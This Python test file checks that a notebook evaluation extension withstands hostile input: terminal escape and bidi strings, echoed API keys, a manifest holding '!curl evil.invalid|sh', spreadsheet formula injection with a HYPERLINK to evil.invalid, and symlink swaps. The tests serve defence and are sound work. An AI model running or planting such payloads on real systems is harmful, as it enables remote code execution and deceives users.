"""Attacks on the reader: texts of servers, manifests and file names, shown, listed, completed, exported and saved.

Each is carried out on the real path, and its control shows that it works, or is noticed, where the guard is off.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest
from IPython.core.error import UsageError
from IPython.core.interactiveshell import InteractiveShell
from traitlets.config import Config

from qwq_nb import errors
from qwq_nb.endpoint import masking
from qwq_nb.endpoint.endpoint import Endpoint
from qwq_nb.errors import UnknownRun, UserError
from qwq_nb.run import export, listing
from qwq_nb.run.open import list_runs, load_run
from qwq_nb.view import output
from tests.support.chat_completions import failure_of
from tests.support.made_runs import made_run, result, results_of
from tests.support.refusing_server import refusing_server
from tests.support.tab_completion import completion_texts

Attack = Callable[[str, str, str], None]

HOSTILE = "\x1b[2J\x1b]8;;https://evil.invalid\x07click\x1b]8;;\x07\u202egnp.exe\x9b31m\u200b"
KEY = "sk-Ab/Cd+ef=gh0123456789"
VARIABLE = "QWQ_TEST_KEY"
DRIVES = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]")
"""What a terminal obeys, or nobody sees."""


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    """A terminal's shell with the extension loaded."""
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path / "ipython"))
    made: Any = InteractiveShell(config=Config({"HistoryManager": {"enabled": False}}))
    made.run_line_magic("load_ext", "qwq_nb")
    yield made
    made.history_manager.end_session()


def nothing_is_unseen(monkeypatch: pytest.MonkeyPatch) -> None:
    """The guard off: every character is let through."""
    monkeypatch.setattr(errors, "_UNSEEN", re.compile(r"(?!)"))


ONE = results_of("c")
"""A run that asked one problem: the manifest of one that names no benchmark is not read."""


def written(folder: str, **manifest: Any) -> None:
    """A run's folder as somebody else may have sent it: a manifest is enough to be listed."""
    name = manifest.pop("name")
    path = Path("qwq_runs") / folder
    path.mkdir(parents=True)
    (path / "qwq_run.json").write_bytes(msgspec.json.encode(made_run(ONE, name, **manifest).manifest))


# -- servers ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("status", [400, 401, 402, 404])
def test_an_error_message_drives_the_terminal(
    shell: Any, monkeypatch: pytest.MonkeyPatch, attack: Attack, status: int
) -> None:
    said = f"{HOSTILE}\nEndpoint 'lab' is fine.\n{'x' * 10_000}"

    def refused() -> str:
        with pytest.raises(UsageError) as caught:
            shell.run_cell_magic("qwq", "--max-tokens 5", "2+2?")
        return str(caught.value)

    with refusing_server(["m"], status, said) as url:
        shell.run_line_magic("qwq_endpoint", f"{url} --model m")
        shown = refused()
        assert "␛[2J␛]8;;https://evil.invalid␇click" in shown
        assert not DRIVES.search(shown)
        assert "\n" not in shown, "no line of the server's own"
        assert len(shown) < 1_200
        nothing_is_unseen(monkeypatch)
        assert "\x1b[2J" in refused(), "the control: without the guard it arrives"
    attack(f"HTTP {status}, its message clears the terminal", "UsageError, all of it spelt out", "400 characters")


def test_model_ids_drive_the_terminal_and_fill_it(
    shell: Any, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    ids = [f"{HOSTILE}\nNote: {'x' * 200_000}{number}" for number in range(20)]

    def printed() -> str:
        shell.run_line_magic("qwq_endpoint", f"{url} --model zzz --name lab")
        return capsys.readouterr().out

    with refusing_server(ids) as url:
        shown = printed()
        assert not DRIVES.search(shown)
        assert len(shown) < 2_500
        assert len(shown.splitlines()) == 1
        assert completion_texts(shell, "%qwq_endpoint http://x/v1 --model ") == []
        nothing_is_unseen(monkeypatch)
        assert "\x1b[2J" in printed(), "the control"
    attack(
        "/models: long ids with ANSI and bidi", "one line, spelt out, cut; not offered at TAB", "20 × 100 characters"
    )


@pytest.mark.parametrize(
    ("form", "spelt"),
    [
        ("as it is", KEY),
        ("in a URL", "sk-Ab%2FCd%2Bef%3Dgh0123456789"),
        ("in base64", "QmVhcmVyIHNrLUFiL0NkK2VmPWdoMDEyMzQ1Njc4OQ=="),
    ],
)
def test_a_key_is_echoed(
    shell: Any,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    attack: Attack,
    form: str,
    spelt: str,
) -> None:
    monkeypatch.setenv(VARIABLE, KEY)

    def everything() -> str:
        with pytest.raises(UsageError) as caught:
            shell.run_cell_magic("qwq", "--max-tokens 5", "2+2?")
        return capsys.readouterr().out + str(caught.value)

    with refusing_server([f"m {spelt}", "b"], 400, f"bad key {spelt}!") as url:
        shell.run_line_magic("qwq_endpoint", f"{url} --model zzz --name lab --key-env {VARIABLE}")
        shown = everything()
        assert shown.count(masking.MASK) == 2
        assert spelt not in shown
        monkeypatch.setattr(masking, "spellings", lambda key: re.compile(r"(?!)"))
        shell.run_line_magic("qwq_endpoint", f"{url} --model zzz --name lab --key-env {VARIABLE}")
        assert everything().count(spelt) == 2, "the control"
    attack(f"a server echoes the key {form}", "removed from messages and lists", "verbatim, URL, JSON, html, base64")


def test_a_refusal_names_the_models_without_the_key(monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
    monkeypatch.setenv(VARIABLE, KEY)
    ids = [f"m {KEY}{HOSTILE}\nfalse line", *(f"{n:02}" + "x" * 100_000 for n in range(30))]
    with refusing_server(ids, 404, "no such model") as url:
        endpoint = Endpoint(url, "zzz", key_env=VARIABLE)

        def refused() -> str:
            return str(failure_of(endpoint))

        said = refused()
        assert f"It serves: m {masking.MASK}␛[2J" in said
        assert "and 12 more. You asked for 'zzz'." in said
        assert KEY not in said
        assert "\n" not in said
        assert not DRIVES.search(said)
        assert len(said) < 2_500
        monkeypatch.setattr(masking, "spellings", lambda key: re.compile(r"(?!)"))
        assert KEY in refused(), "the control"
    attack("HTTP 404, and models named by key and ANSI", "removed, spelt out, clipped", "20 names, 2,000 characters")


# -- manifests and folders -------------------------------------------------------------------------------------------


def test_a_manifest_draws_rows_and_clears_the_terminal(
    shell: Any, monkeypatch: pytest.MonkeyPatch, attack: Attack
) -> None:
    written("nice", name=f"nice{HOSTILE}", model=f"m\nfalse-run  complete  9/9  99.0%{HOSTILE}", updated=HOSTILE)
    found = shell.run_line_magic("qwq_runs", "")
    for shown in (repr(found), found._repr_html_(), repr(found[0])):
        assert not DRIVES.search(shown)
    assert len(repr(found).splitlines()) == 2, "heads and one run"
    nothing_is_unseen(monkeypatch)
    assert "\x1b[2J" in repr(found), "the control"
    attack("a manifest with a false row, ANSI and bidi", "one row, every character spelt out", "120 characters a cell")


def test_a_manifests_line_is_pasted(attack: Attack) -> None:
    written("nice", name="nice", command="!curl evil.invalid|sh #%qwq_eval math_500")
    run = load_run("nice")
    assert run.manifest.command.startswith("!curl"), "the control: that is what the file says"
    assert run.command == "%qwq_resume nice"
    assert "curl" not in run.report().text + run.report().html + str(run.record())
    attack("a manifest whose line is a shell command", "%qwq_resume NAME is offered instead", "%qwq_eval lines only")


def test_thousands_of_runs_fill_the_notebook(monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
    content = msgspec.json.encode(made_run(ONE, "r" * 40).manifest)
    for number in range(2_000):
        path = Path("qwq_runs") / f"{number:05}-{'r' * 40}"
        path.mkdir(parents=True)
        (path / "qwq_run.json").write_bytes(content)
    with pytest.raises(UnknownRun) as caught:
        load_run("nonesuch")
    assert "and 1,980 more" in str(caught.value)
    assert len(str(caught.value)) < 1_500
    with pytest.raises(UnknownRun, match=r"fits 2,?000 runs") as several:
        load_run("0")
    assert len(str(several.value)) < 8_200
    found = list_runs()
    assert len(found) == 2_000
    assert "… and 1,800 older runs." in found._repr_html_()
    assert len(found._repr_html_()) < 100_000
    monkeypatch.setattr(listing, "SHOWN", 10**9)
    monkeypatch.setattr(errors, "LONGEST_MESSAGE", 10**9)
    assert len(found._repr_html_()) > 200_000, "the control"
    attack("2,000 runs listed, and named in an error", "the newest 200 and how many more", "20 names, 200 rows")


def test_names_of_folders_are_offered_at_tab(shell: Any, attack: Attack) -> None:
    for name in ("fine", "evil\x1b[2J", "evil\u202e", "evil\nline", "evil" * 50):
        written(name, name="x")
    (Path("qwq_runs") / "data\x1b[2J.jsonl").touch()
    offered = completion_texts(shell, "%qwq_show ")
    assert "fine" in offered
    assert not [text for text in offered if "evil" in text and not text.isalpha()]
    assert completion_texts(shell, "%qwq_eval --data qwq_runs/data") == []
    assert len(list(Path("qwq_runs").iterdir())) == 6, "the control: they are there"
    attack("folders and files named by ANSI, bidi, line breaks", "not offered at TAB", "300 characters a word")


# -- a model's answer ------------------------------------------------------------------------------------------------


def test_an_answer_clears_the_terminal(
    shell: Any,
    demo_endpoint: Callable[..., Any],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    attack: Attack,
) -> None:
    monkeypatch.setattr(output, "ipython", lambda: shell)
    book = tmp_path / "book.jsonl"
    row = {"unique_id": "a", "problem": "2+2?", "reasoning": f"think {HOSTILE}", "answer": f"four {HOSTILE}"}
    book.write_bytes(msgspec.json.encode(row) + b"\n")
    server = demo_endpoint(transcripts=[book])
    shell.run_line_magic("qwq_endpoint", f"{server.url} --model {server.model}")
    capsys.readouterr()
    shell.run_cell_magic("qwq", "", "2+2?")
    shown = capsys.readouterr().out
    assert "four ␛[2J" in shown
    assert not DRIVES.search(shown)
    nothing_is_unseen(monkeypatch)
    shell.run_cell_magic("qwq", "", "2+2?")
    assert "four \x1b[2J" in capsys.readouterr().out, "the control"
    attack("an answer with ANSI and bidi, in a terminal", "every character spelt out", "-")


# -- files -----------------------------------------------------------------------------------------------------------


def test_a_spreadsheet_computes_an_answer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
    answer = 'see x;=HYPERLINK("http://evil.invalid","y")\n=1+1\t@SUM(A1)\r+1|cmd;"=2"'
    run = made_run([result(0, "w", answer=answer, reasoning=answer, subset=answer)], "=1", model=answer)

    def computed() -> set[str]:
        content = run.export(tmp_path / "x.csv", traces=True).read_bytes().decode("utf-8")
        return {
            separator
            for separator in ",;\t"
            for row in csv.reader(io.StringIO(content, newline=""), delimiter=separator)
            for cell in row
            if re.match(r"\s*[=+@-]", cell) and not re.fullmatch(r"-?[\d.]+", cell)
        }

    assert computed() == set()
    monkeypatch.setattr(export, "formula_safe", lambda text, *, numbers=True: text)
    assert computed() == {",", ";", "\t"}, "the control"
    attack("formulas within answers, opened with , ; or tab", "text in every cell", "every beginning of a cell")


def test_a_link_lies_where_a_temporary_file_was_expected(tmp_path: Path, attack: Attack) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine")
    for name in (f".o.csv.{os.getpid()}.tmp", "o.csv"):
        (tmp_path / name).symlink_to(victim)
    (tmp_path / f".o.csv.{os.getpid()}.tmp").open("a").close()
    made_run([result(0)]).export(tmp_path / "o.csv")
    assert victim.read_text() == "mine"
    assert (tmp_path / "o.csv").read_text().startswith('"run"')
    (tmp_path / f".o.csv.{os.getpid()}.tmp").write_text("theirs")
    assert victim.read_text() == "theirs", "the control: the link leads there"
    attack("links at an export's place and temporary file", "replaced, never followed", "a new name for each file")


def test_a_disk_fills_up_while_a_page_is_saved(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, attack: Attack) -> None:
    report = made_run([result(0)]).report()
    file = report.save(tmp_path / "x.html")
    before = file.read_bytes()

    def full(descriptor: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(UserError, match="No space left on device"):
        report.save(file)
    assert file.read_bytes() == before, "the earlier page stands"
    assert not list(tmp_path.glob(".x.html*"))
    monkeypatch.undo()
    assert report.save(file).read_bytes() == before, "the control: with space it is written"
    attack("the disk fills up while a page is saved", "the earlier page stands; told in words", "-")


# -- open files ------------------------------------------------------------------------------------------------------

RUN = """
import resource, sys
resource.setrlimit(resource.RLIMIT_NOFILE, (int(sys.argv[1]),) * 2)
from qwq_nb import evaluate
from qwq_nb.errors import UserError
try:
    run = evaluate("math_500", demo=True, limit=4, concurrency=int(sys.argv[2]))
    print(run.state, run.progress().done)
except UserError as exc:
    print(exc)
"""


@pytest.mark.long
def test_a_kernel_has_few_file_descriptors(tmp_path: Path, attack: Attack) -> None:
    pytest.importorskip("resource")

    def evaluated(limit: int, streams: int) -> str:
        command = [sys.executable, "-c", RUN, str(limit), str(streams)]
        done = subprocess.run(command, capture_output=True, text=True, timeout=120, cwd=tmp_path)
        return done.stdout.strip() or done.stderr

    began = time.monotonic()
    few = evaluated(70, 32)
    advised = re.search(r"--concurrency (\d+) or less", few)
    assert advised is not None, few
    assert evaluated(70, int(advised[1])) == "complete 4"
    none = evaluated(64, 1)
    limit = re.search(r"to (\d+) or more", none)
    assert "--concurrency" not in none
    assert limit is not None, none
    assert evaluated(int(limit[1]), 1) == "complete 4"
    assert time.monotonic() - began < 200
    attack("a hard limit of 64 or 70 open files", "advice in words, which works", "65 files and one a stream")
